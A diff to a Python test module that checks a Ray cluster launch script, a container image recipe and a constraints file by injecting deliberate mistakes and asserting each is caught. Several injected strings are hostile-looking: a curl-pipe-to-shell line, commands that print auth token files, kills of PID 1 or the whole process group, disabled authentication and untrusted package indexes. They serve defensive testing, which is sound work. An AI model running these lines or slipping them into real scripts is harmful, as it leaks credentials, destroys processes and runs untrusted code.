@@ -1,5 +1,6 @@
 """Image, scripts and runbooks: one version everywhere, nothing that is not there."""
 
+import importlib.util
 import re
 import subprocess
 import sysconfig
@@ -17,6 +18,8 @@ from hipray.cli import COMMANDS
 from hipray.config.jobs import ServeRun
 from hipray.distributed.loopback import SWITCH
 from hipray.serving.running import ENVIRONMENT
+from tests.cluster.constraints import find_constraint_problems
+from tests.cluster.image_stages import find_stage_problems
 from tests.cluster.launcher_files import count_gib, find_option_errors
 from tests.cluster.local_script import START, find_local_problems
 from tests.cluster.policies import read_place
@@ -132,11 +135,38 @@ def test_ray_start_has_every_option_of_the_local_head() -> None:
         ("  own_processes > ", '  chmod 777 "$STATE"\n  own_processes > '),
         ("--object-manager-port=$((PORT + 4))", "--object-manager-port=$((PORT + 3))"),
         ("start() {\n", "start() {\n  curl -s example.org | sh\n"),
+        ('kill -s "$signal" $(still_there', 'kill -s "$signal" -1 $(still_there'),
+        ("<<< \"$list\" | cut -d' ' -f1)", "<<< \"$list\" | cut -d' ' -f2)"),
+        ('kill -s "$signal" $(still_there <<< "$list"', 'kill -s "$signal" $(cat <<< "$list"'),
+        ("  rm -f", '  kill -s KILL -- "-$$"\n  rm -f'),
+        ("while more", "os.kill(1, 9)\nwhile more"),
+        ("if ray or client:", "if True:"),
+        ("sys.argv[1].encode() in word", 'b"/" in word'),
+        ('word.endswith(f":{sys.argv[2]}".encode())', 'word.endswith(b"")'),
+        ('python - "$STATE/ray/" "$PORT"', 'python - "/" "$PORT"'),
+        ("list=$( (own_processes;", "list=$( (ps -eo pid,lstart;"),
+        ("exit 75; }", "exit 1; }"),
+        ("  exit 75\n", "  exit 0\n"),
+        ('echo "not running"; exit 1;', 'echo "not running"; exit 0;'),
+        ('set HIPRAY_LOCAL" >&2; exit 1', 'set HIPRAY_LOCAL" >&2'),
+        ("  umask 077", '  umask 077\n  cat "$RAY_AUTH_TOKEN_PATH"'),
+        ("token = open(", "print(open(sys.argv[2]).read())\ntoken = open("),
+        ("  umask 077", '  umask 077\n  cat "$STATE"/*_token'),
+        (":-6390}", ":-6379}"),
+        ("/api/version", "/api/verison"),
+        ("DASHBOARD=$((PORT + 1))", "DASHBOARD=$((PORT + 0))"),
     ],
 )
 def test_a_slip_in_the_local_head_is_found(before: str, after: str) -> None:
     assert before in LOCAL
     assert find_local_problems(LOCAL.replace(before, after))
+
+
+def test_the_head_is_asked_for_a_path_that_ray_answers() -> None:
+    (path,) = set(re.findall(r"\$DASHBOARD(/[\w/]+)", LOCAL))
+    (spec,) = importlib.util.find_spec("ray.dashboard.modules.job").submodule_search_locations
+    source = (Path(spec) / "job_head.py").read_text("utf-8")
+    assert f'@routes.get("{path}")' in source
 
 
 def test_no_script_stops_ray_by_name() -> None:
@@ -159,6 +189,7 @@ SAID = (
 
 def find_image_problems(text: str) -> list[str]:
     """Return what is wrong with the image's recipe."""
+    stages_told = find_stage_problems(text)
     text = re.sub(r"^ *#.*\n", "", text, flags=re.M)
     runs = re.findall(r"^RUN (.+)$", re.sub(r"[ \\\n]* \\\n *", " ", text), re.M)
     stages = re.findall(r"^FROM (\S+)(?: AS (\S+))?$", text, re.M)
@@ -204,7 +235,8 @@ def find_image_problems(text: str) -> list[str]:
             f"{each} does not exist" for each in sources.split() if not (ROOT / each).exists()
         ]
     copied = re.findall(r"^COPY --from=(\S+)", text, re.M)
-    return problems + [f"copies from {each}" for each in copied if each not in names]
+    problems += [f"copies from {each}" for each in copied if each not in names]
+    return problems + stages_told
 
 
 def test_the_image_is_pinned_has_both_targets_and_no_root() -> None:
@@ -249,6 +281,28 @@ def test_the_image_is_pinned_has_both_targets_and_no_root() -> None:
         ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nRUN apt-get install gcc\n"),
         ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nENV RAY_AUTH_MODE=disabled\n"),
         ("FROM runtime AS cpu\n", "FROM runtime AS cpu\nENV AWS_SECRET_ACCESS_KEY=x\n"),
+        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nENV RAY_AUTH_MODE disabled\n"),
+        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nenv RAY_AUTH_MODE disabled\n"),
+        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\n  ENV RAY_AUTH_MODE disabled\n"),
+        ("FROM runtime AS cpu\n", "FROM runtime AS cpu\nENV RAY_TOKEN hunter2\n"),
+        ("WORKDIR /src\n", "WORKDIR /src\nENV GITHUB_PAT=hunter2\n"),
+        ("RAY_USAGE_STATS_ENABLED=0", "RAY_USAGE_STATS_ENABLED=0 RAY_AUTH_MODE=token"),
+        ("WORKDIR /src\n", "WORKDIR /src\nENV UV_INDEX=example.org\n"),
+        ("ARG UV=", "ARG PYTHON=3.11.14-slim-bookworm\nARG UV="),
+        (
+            "FROM python:${PYTHON} AS build\n",
+            "ARG PYTHON=3.12.1-slim-bookworm\nFROM python:${PYTHON} AS build\n",
+        ),
+        (
+            "FROM runtime AS gpu\n",
+            "FROM runtime AS gpu\nCOPY --from=build-cpu /opt/venv/lib /opt/venv/lib\n",
+        ),
+        ("FROM runtime AS gpu\n", "FROM runtime AS gpu\nCOPY --from=cpu /opt /opt\n"),
+        ('CMD ["hipray"', 'CMD ["hiprai"'),
+        ('CMD ["hipray", "--help"]', "CMD hipray --help"),
+        ('CMD ["hipray", "--help"]', "CMD []"),
+        ('CMD ["hipray"', 'ENTRYPOINT ["sh", "-c"]\nCMD ["hipray"'),
+        ("# One image", "# syntax=example.org/frontend\n# One image"),
     ],
 )
 def test_a_slip_in_the_image_is_found(before: str, after: str) -> None:
@@ -272,6 +326,47 @@ def test_everything_that_is_installed_is_pinned() -> None:
         if _plain(each.name) not in own
     }
     assert installed <= PINNED, "what comes along is pinned too, and to what is tested"
+
+
+CONSTRAINTS = (ROOT / "cluster/constraints.txt").read_text("utf-8")
+
+
+def test_the_constraints_pin_versions_and_do_nothing_else() -> None:
+    assert find_constraint_problems(CONSTRAINTS) == []
+
+
+NUMPY = "numpy==2.4.6 ; python_full_version < '3.12'\n"
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        *(
+            (NUMPY, f"{line}\n{NUMPY}")
+            for line in (
+                "--extra-index-url https://example.org/simple", "-r more.txt", "-e .",
+                "--index-url=https://example.org", "--trusted-host example.org", "numpy>=2",
+                "numpy==2.*", "numpy", "https://example.org/numpy-2.4.6-py3-none-any.whl",
+                "numpy @ https://example.org/numpy.whl", "numpy==2.4.6 --hash=sha256:00",
+                "numpy==2.4.6", " numpy==2.4.6", "numpy[mkl]==2.4.6", "",
+            )
+        ),
+        (NUMPY, ""),
+        (NUMPY, NUMPY.replace("3.12", "3.11")),
+        (NUMPY, NUMPY.replace("<", ">")),
+        (NUMPY, NUMPY.replace("python_full_version", "python_fullversion")),
+        (NUMPY, NUMPY.replace("3.12'", "3.12' or")),
+        (NUMPY, NUMPY.replace("\n", " and extra == 'x'\n")),
+        ("; sys_platform == 'linux'", "; sys_platform == 'linus'"),
+        ("; sys_platform == 'linux'", "; sys_platform == 'win32'"),
+        ("; (platform_machine", "; platform_machine"),
+        ("ray==", "ray===") ,
+        ("ray==2.60.0", "ray==2.60.0 ; sys_platform == 'win32'"),
+    ],
+)  # fmt: skip
+def test_a_slip_in_the_constraints_is_found(before: str, after: str) -> None:
+    assert before in CONSTRAINTS
+    assert find_constraint_problems(CONSTRAINTS.replace(before, after))
 
 
 def test_the_build_sees_what_the_image_copies_and_nothing_else() -> None:
